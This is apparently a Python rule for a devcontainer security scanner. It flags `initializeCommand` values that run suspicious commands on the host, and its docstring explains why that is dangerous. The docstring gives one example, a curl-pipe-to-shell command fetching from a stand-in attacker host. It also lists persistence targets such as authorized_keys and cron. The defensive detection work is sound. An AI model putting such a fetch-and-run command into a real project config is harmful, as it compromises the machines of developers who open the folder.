"""A command on the host does what no project has to do there.

## What it is

An `initializeCommand` that fetches and runs something from the network, decodes what it runs,
touches `authorized_keys`, cron jobs, services or login scripts, or starts a container that owns
the host.

## Why it is bad

It runs on your machine, before any sandbox, as soon as the folder is opened in a container:

    "initializeCommand": "curl -s https://attacker.example/x | sh"

## What to do instead

Do not open the project in a container before you know what it does. Software for the container
is installed inside it: in the Dockerfile, by a Feature, or in `onCreateCommand`.

## Under gVisor

No difference: it runs outside of every container.

## References

- https://containers.dev/implementors/json_reference/#lifecycle-scripts
- https://github.com/devcontainers/cli/issues/290
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from sandboxd.findings import RuleMeta, Severity
from sandboxd.rules._commands import suspicious
from sandboxd.rules._finding import at_value
from sandboxd.rules._needs import Field

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandboxd.findings import Finding
    from sandboxd.host.facts import HostFacts
    from sandboxd.model.container import Container

META = RuleMeta(
    id="initialize-command-suspicious",
    summary="a command on the host does what no project has to do there",
    severity=Severity.ERROR,
    since="0.1.0",
    why="it runs on your machine, before any sandbox, when the folder is opened",
    needs=(Field("host_commands"),),
)


def check(subject: Container, host: HostFacts) -> Iterator[Finding]:
    for value in subject.host_commands:
        effect = suspicious(value.value)
        if effect:
            yield at_value(META, value, f"this command on the host {effect}", value.value)
